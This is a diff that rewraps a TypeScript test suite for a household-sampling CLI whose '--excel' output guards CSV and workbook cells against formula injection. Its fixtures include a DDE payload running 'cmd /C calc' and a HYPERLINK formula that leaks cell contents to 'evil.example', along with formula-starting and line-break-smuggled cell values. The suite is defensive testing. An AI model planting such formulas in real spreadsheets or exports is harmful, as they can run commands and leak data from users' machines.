@@ -21,7 +21,9 @@ describe('§20 guard and unguard (property)', () => {
   const hostileText = fc.oneof(
     fc.string(),
     fc.tuple(fc.constantFrom(...FORMULA_CHARACTERS), fc.string()).map(([first, rest]) => first + rest),
-    fc.tuple(fc.constantFrom("'", "''"), fc.constantFrom(...FORMULA_CHARACTERS), fc.string()).map(([quotes, first, rest]) => quotes + first + rest),
+    fc
+      .tuple(fc.constantFrom("'", "''"), fc.constantFrom(...FORMULA_CHARACTERS), fc.string())
+      .map(([quotes, first, rest]) => quotes + first + rest),
     fc.double({ noNaN: true }).map(String),
   );
 
@@ -47,7 +49,16 @@ describe('§20 guard and unguard (property)', () => {
 
   it('negative numbers stay numbers; the six formula starts and the apostrophe are guarded', () => {
     expect(['-3', '-0.25', '-5e-7', '-.5'].map(guardCell)).toEqual(['-3', '-0.25', '-5e-7', '-.5']);
-    expect(['=1', '+1', '-1+1', '@A1', '\tx', '\rx', "'x", '-'].map(guardCell)).toEqual(["'=1", "'+1", "'-1+1", "'@A1", "'\tx", "'\rx", "''x", "'-"]);
+    expect(['=1', '+1', '-1+1', '@A1', '\tx', '\rx', "'x", '-'].map(guardCell)).toEqual([
+      "'=1",
+      "'+1",
+      "'-1+1",
+      "'@A1",
+      "'\tx",
+      "'\rx",
+      "''x",
+      "'-",
+    ]);
   });
 });
 
@@ -58,7 +69,10 @@ const HOSTILE_HEADER = "=cmd|' /C calc'!A0";
 
 /** The demo registry with formula values: village 弥鹤村 renamed, its households' IDs, names and an extra column hostile. */
 function hostileRegistry(dir: string): string {
-  const lines = readFileSync(DEMO, 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/).filter((line) => line !== '');
+  const lines = readFileSync(DEMO, 'utf8')
+    .replace(/^\uFEFF/, '')
+    .split(/\r?\n/)
+    .filter((line) => line !== '');
   const [header, ...rows] = lines.map((line) => line.split(','));
   const column = (name: string) => header!.indexOf(name);
   const quote = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
@@ -79,10 +93,29 @@ function hostileRegistry(dir: string): string {
   return path;
 }
 
-const DRAW = (registry: string, seed = 'formula-guard') => ['monthly', registry, '--month', '2026-11', '--seed', seed, '--level', 'county', '--scope', '峨山彝族自治县', '--villages', '200', '--households', '3', '--village-frame', 'all'];
+const DRAW = (registry: string, seed = 'formula-guard') => [
+  'monthly',
+  registry,
+  '--month',
+  '2026-11',
+  '--seed',
+  seed,
+  '--level',
+  'county',
+  '--scope',
+  '峨山彝族自治县',
+  '--villages',
+  '200',
+  '--households',
+  '3',
+  '--village-frame',
+  'all',
+];
 
-const readCsv = (path: string): string[][] => parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: false }) as string[][];
-const manifestOf = (dir: string): Manifest & { parameters: Record<string, unknown> } => JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
+const readCsv = (path: string): string[][] =>
+  parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: false }) as string[][];
+const manifestOf = (dir: string): Manifest & { parameters: Record<string, unknown> } =>
+  JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
 
 const hasPython = spawnSync('python3', ['--version']).status === 0;
 
@@ -103,7 +136,9 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
 
   it('no cell of an --excel CSV starts a formula, and every hostile value is there behind one apostrophe', () => {
     const households = readCsv(join(excelDraw, 'households.csv'));
-    const all = ['counties.csv', 'villages.csv', 'households.csv'].flatMap((name) => readCsv(join(excelDraw, name)).flat());
+    const all = ['counties.csv', 'villages.csv', 'households.csv'].flatMap((name) =>
+      readCsv(join(excelDraw, name)).flat(),
+    );
     expect(all.filter(startsFormula)).toEqual([]);
     expect(households[0]).toContain(`'${HOSTILE_HEADER}`);
     const flat = households.flat();
@@ -123,13 +158,21 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
   });
 
   it('the workbook holds no formula, and every hostile text is a string cell in the Text format', () => {
-    const unzip = spawnSync('unzip', ['-p', join(excelDraw, 'check-workbook.xlsx'), 'xl/worksheets/*.xml', 'xl/sharedStrings.xml', 'xl/styles.xml'], { encoding: 'utf8', maxBuffer: 64 << 20 });
+    const unzip = spawnSync(
+      'unzip',
+      ['-p', join(excelDraw, 'check-workbook.xlsx'), 'xl/worksheets/*.xml', 'xl/sharedStrings.xml', 'xl/styles.xml'],
+      { encoding: 'utf8', maxBuffer: 64 << 20 },
+    );
     if (unzip.status !== 0) return expect.fail(`unzip is needed to read the workbook: ${unzip.stderr}`);
     const xml = unzip.stdout;
     expect(xml).not.toMatch(/<f[ >]/);
     expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
     // every string cell (t="s") carries a style whose number format is 49 (Text, "@")
-    const textStyles = new Set([...(xml.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf [^>]*?\/?>/g)].map((match, index) => (/numFmtId="49"/.test(match[0]) ? index : -1)).filter((index) => index >= 0));
+    const textStyles = new Set(
+      [...(xml.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf [^>]*?\/?>/g)]
+        .map((match, index) => (/numFmtId="49"/.test(match[0]) ? index : -1))
+        .filter((index) => index >= 0),
+    );
     const stringCells = [...xml.matchAll(/<c r="[A-Z]+\d+"( s="(\d+)")? t="s">/g)];
     expect(stringCells.length).toBeGreaterThan(20);
     expect(stringCells.filter((cell) => !textStyles.has(Number(cell[2] ?? '0'))).length).toBe(0);
@@ -141,28 +184,58 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
   });
 
   it.skipIf(!hasPython)('docs/check_draw.py re-draws it and compares every cell (exit 0)', () => {
-    const result = spawnSync('python3', [join(ROOT, 'docs', 'check_draw.py'), join(excelDraw, 'manifest.json'), '--registry', registry], { encoding: 'utf8' });
+    const result = spawnSync(
+      'python3',
+      [join(ROOT, 'docs', 'check_draw.py'), join(excelDraw, 'manifest.json'), '--registry', registry],
+      { encoding: 'utf8' },
+    );
     expect(result.status, result.stdout + result.stderr).toBe(0);
   });
 
   it('--exclude of the --excel draw leaves out exactly the households the plain draw names (keys read without the apostrophe)', async () => {
-    const next = async (source: string, name: string) => await cli([...DRAW(registry, 'next'), '--exclude', source, '--exclude-stages', 'household', '--excel', '--out', join(dir, name)]);
+    const next = async (source: string, name: string) =>
+      await cli([
+        ...DRAW(registry, 'next'),
+        '--exclude',
+        source,
+        '--exclude-stages',
+        'household',
+        '--excel',
+        '--out',
+        join(dir, name),
+      ]);
     const fromExcel = await next(excelDraw, 'next-excel');
     const fromPlain = await next(plainDraw, 'next-plain');
     expect(fromExcel.status, fromExcel.stderr).toBe(0);
     expect(fromPlain.status, fromPlain.stderr).toBe(0);
-    const excludedKeys = (name: string) => readCsv(join(dir, name, 'excluded.csv')).slice(1).map((row) => unguardCell(row[1]!));
+    const excludedKeys = (name: string) =>
+      readCsv(join(dir, name, 'excluded.csv'))
+        .slice(1)
+        .map((row) => unguardCell(row[1]!));
     const drawnIds = readCsv(join(plainDraw, 'households.csv'));
     const idColumn = drawnIds[0]!.indexOf('household_id');
-    expect(excludedKeys('next-excel').sort()).toEqual(drawnIds.slice(1).map((row) => row[idColumn]!).sort());
+    expect(excludedKeys('next-excel').sort()).toEqual(
+      drawnIds
+        .slice(1)
+        .map((row) => row[idColumn]!)
+        .sort(),
+    );
     expect(excludedKeys('next-excel')).toEqual(excludedKeys('next-plain'));
     expect(excludedKeys('next-excel').some((key) => key.startsWith('='))).toBe(true);
     // excluded.csv is itself a CSV for Excel: guarded, and read back by verify.
-    expect(readCsv(join(dir, 'next-excel', 'excluded.csv')).flat().filter(startsFormula)).toEqual([]);
+    expect(
+      readCsv(join(dir, 'next-excel', 'excluded.csv'))
+        .flat()
+        .filter(startsFormula),
+    ).toEqual([]);
     const verified = await cli(['verify', join(dir, 'next-excel'), '--registry', registry]);
     expect(verified.status, verified.stdout + verified.stderr).toBe(0);
     if (hasPython) {
-      const checked = spawnSync('python3', [join(ROOT, 'docs', 'check_draw.py'), join(dir, 'next-excel', 'manifest.json'), '--registry', registry], { encoding: 'utf8' });
+      const checked = spawnSync(
+        'python3',
+        [join(ROOT, 'docs', 'check_draw.py'), join(dir, 'next-excel', 'manifest.json'), '--registry', registry],
+        { encoding: 'utf8' },
+      );
       expect(checked.status, checked.stdout + checked.stderr).toBe(0);
     }
   });
@@ -171,10 +244,18 @@ describe('--excel CSVs carry no formula; programs get the exact values; all read
     const households = readCsv(join(excelDraw, 'households.csv'));
     const idColumn = households[0]!.indexOf('household_id');
     const list = join(dir, 'list.csv');
-    writeFileSync(list, `户编号\n${households.slice(1).map((row) => row[idColumn]).join('\n')}\n`);
+    writeFileSync(
+      list,
+      `户编号\n${households
+        .slice(1)
+        .map((row) => row[idColumn])
+        .join('\n')}\n`,
+    );
     const result = await cli([...DRAW(registry, 'list'), '--exclude', list, '--exclude-stages', 'household', '--json']);
     expect(result.status, result.stderr).toBe(0);
-    const manifest = JSON.parse(result.stdout).manifest as Manifest & { exclusions: { excluded: { households: number } } };
+    const manifest = JSON.parse(result.stdout).manifest as Manifest & {
+      exclusions: { excluded: { households: number } };
+    };
     expect(manifest.exclusions.excluded.households).toBe(households.length - 1);
   });
 
@@ -202,14 +283,21 @@ describe('a draw made with --excel before the guard (0.4.0) still verifies', () 
       const rows = readCsv(join(out, name)).map((row) => row.map(unguardCell));
       const text = `\ufeff${rows.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',')).join('\r\n')}\r\n`;
       writeFileSync(join(out, name), text);
-      manifest.outputs[name] = { ...manifest.outputs[name]!, sha256: execFileSync('sha256sum', [join(out, name)], { encoding: 'utf8' }).slice(0, 64) };
+      manifest.outputs[name] = {
+        ...manifest.outputs[name]!,
+        sha256: execFileSync('sha256sum', [join(out, name)], { encoding: 'utf8' }).slice(0, 64),
+      };
     }
     writeFileSync(join(out, 'manifest.json'), `${JSON.stringify(sealManifest(manifest as Manifest), null, 2)}\n`);
     expect(readCsv(join(out, 'households.csv')).flat()).toContain(HYPERLINK);
     const verified = await cli(['verify', out, '--registry', registry]);
     expect(verified.status, verified.stdout + verified.stderr).toBe(0);
     if (hasPython) {
-      const checked = spawnSync('python3', [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry], { encoding: 'utf8' });
+      const checked = spawnSync(
+        'python3',
+        [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry],
+        { encoding: 'utf8' },
+      );
       expect(checked.status, checked.stdout + checked.stderr).toBe(0);
     }
   });
@@ -222,14 +310,26 @@ describe('estimate reads a frame returned from Excel exactly', () => {
     const stratum = header!.indexOf('county_stratum');
     const status = header!.indexOf('household_stratum');
     // Labels an insider could plant in the registry: every stratum and status begins a formula.
-    const hostile = rows.map((row) => row.map((cell, index) => (index === stratum ? `=${cell}` : index === status ? `@${cell}` : cell)));
-    const csv = (table: string[][], eol: string) => table.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',')).join(eol) + eol;
+    const hostile = rows.map((row) =>
+      row.map((cell, index) => (index === stratum ? `=${cell}` : index === status ? `@${cell}` : cell)),
+    );
+    const csv = (table: string[][], eol: string) =>
+      table
+        .map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(','))
+        .join(eol) + eol;
     const raw = join(dir, 'raw.csv');
     const guarded = join(dir, 'guarded.csv');
     writeFileSync(raw, csv([header!, ...hostile], '\n'));
-    writeFileSync(guarded, `\ufeff${csv([header!, ...hostile].map((row) => row.map(guardCell)), '\r\n')}`);
+    writeFileSync(
+      guarded,
+      `\ufeff${csv(
+        [header!, ...hostile].map((row) => row.map(guardCell)),
+        '\r\n',
+      )}`,
+    );
     expect(readFileSync(guarded, 'utf8')).toContain("'=");
-    const estimate = async (path: string) => await cli(['estimate', path, '--measure', '识别准确=是', '--by', 'status', '--json']);
+    const estimate = async (path: string) =>
+      await cli(['estimate', path, '--measure', '识别准确=是', '--by', 'status', '--json']);
     const [fromRaw, fromGuarded] = [await estimate(raw), await estimate(guarded)];
     expect(fromRaw.status, fromRaw.stderr).toBe(0);
     expect(fromGuarded.status, fromGuarded.stderr).toBe(0);
@@ -243,12 +343,29 @@ describe('estimate reads a frame returned from Excel exactly', () => {
 describe('a line break inside a cell never starts a row of a CSV for Excel', () => {
   it('a lone LF or CR in a value or a header is quoted: the file parses to the registry values, verify and check_draw.py agree', async () => {
     const dir = tempDir('spotcheck-formulas-lf-');
-    const lines = readFileSync(DEMO, 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/).filter((line) => line !== '');
+    const lines = readFileSync(DEMO, 'utf8')
+      .replace(/^\uFEFF/, '')
+      .split(/\r?\n/)
+      .filter((line) => line !== '');
     const text = `${[`${lines[0]},"备注\n=1+1"`, ...lines.slice(1).map((line, index) => `${line},"${index % 2 ? 'a\n=1+1' : 'b\r@SUM(A1)'}"`)].join('\r\n')}\r\n`;
     const registry = join(dir, 'registry.csv');
     writeFileSync(registry, text);
     const out = join(dir, 'draw');
-    const drawn = await cli(['monthly', registry, '--month', '2026-11', '--seed', 'lf', '--level', 'county', '--scope', '峨山彝族自治县', '--excel', '--out', out]);
+    const drawn = await cli([
+      'monthly',
+      registry,
+      '--month',
+      '2026-11',
+      '--seed',
+      'lf',
+      '--level',
+      'county',
+      '--scope',
+      '峨山彝族自治县',
+      '--excel',
+      '--out',
+      out,
+    ]);
     expect(drawn.status, drawn.stderr).toBe(0);
     const rows = readCsv(join(out, 'households.csv'));
     expect(rows.length).toBe(manifestOf(out).outputs['households.csv']!.rows + 1);
@@ -257,23 +374,58 @@ describe('a line break inside a cell never starts a row of a CSV for Excel', () 
     expect(rows.slice(1).every((row) => ['a\n=1+1', 'b\r@SUM(A1)'].includes(row.at(-1)!))).toBe(true);
     expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
     if (hasPython) {
-      const checked = spawnSync('python3', [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry], { encoding: 'utf8' });
+      const checked = spawnSync(
+        'python3',
+        [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry],
+        { encoding: 'utf8' },
+      );
       expect(checked.status, checked.stdout + checked.stderr).toBe(0);
     }
   });
 });
 
 describe('the guard agrees in TypeScript and Python on non-ASCII digits', () => {
-  it.skipIf(!hasPython)('a household ID "-３" (full-width digit) is guarded by both: verify and check_draw.py pass', async () => {
-    const dir = tempDir('spotcheck-formulas-fullwidth-');
-    const lines = readFileSync(DEMO, 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/).filter((line) => line !== '');
-    const registry = join(dir, 'registry.csv');
-    writeFileSync(registry, `${lines.map((line) => line.replace(/^(峨山彝族自治县,[^,]*,[^,]*,[^,]*,)(\d+)/, (_, head: string, id: string) => `${head}-${String.fromCodePoint(0xff10 + Number(id.slice(-1)))}${id}`)).join('\n')}\n`);
-    const out = join(dir, 'draw');
-    expect((await cli(['monthly', registry, '--month', '2026-11', '--seed', 'fw', '--level', 'county', '--scope', '峨山彝族自治县', '--excel', '--out', out])).status).toBe(0);
-    expect(readFileSync(join(out, 'households.csv'), 'utf8')).toMatch(/'-[\uff10-\uff19]/);
-    expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
-    const checked = spawnSync('python3', [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry], { encoding: 'utf8' });
-    expect(checked.status, checked.stdout + checked.stderr).toBe(0);
-  });
+  it.skipIf(!hasPython)(
+    'a household ID "-３" (full-width digit) is guarded by both: verify and check_draw.py pass',
+    async () => {
+      const dir = tempDir('spotcheck-formulas-fullwidth-');
+      const lines = readFileSync(DEMO, 'utf8')
+        .replace(/^\uFEFF/, '')
+        .split(/\r?\n/)
+        .filter((line) => line !== '');
+      const registry = join(dir, 'registry.csv');
+      writeFileSync(
+        registry,
+        `${lines.map((line) => line.replace(/^(峨山彝族自治县,[^,]*,[^,]*,[^,]*,)(\d+)/, (_, head: string, id: string) => `${head}-${String.fromCodePoint(0xff10 + Number(id.slice(-1)))}${id}`)).join('\n')}\n`,
+      );
+      const out = join(dir, 'draw');
+      expect(
+        (
+          await cli([
+            'monthly',
+            registry,
+            '--month',
+            '2026-11',
+            '--seed',
+            'fw',
+            '--level',
+            'county',
+            '--scope',
+            '峨山彝族自治县',
+            '--excel',
+            '--out',
+            out,
+          ])
+        ).status,
+      ).toBe(0);
+      expect(readFileSync(join(out, 'households.csv'), 'utf8')).toMatch(/'-[\uff10-\uff19]/);
+      expect((await cli(['verify', out, '--registry', registry])).status).toBe(0);
+      const checked = spawnSync(
+        'python3',
+        [join(ROOT, 'docs', 'check_draw.py'), join(out, 'manifest.json'), '--registry', registry],
+        { encoding: 'utf8' },
+      );
+      expect(checked.status, checked.stdout + checked.stderr).toBe(0);
+    },
+  );
 });
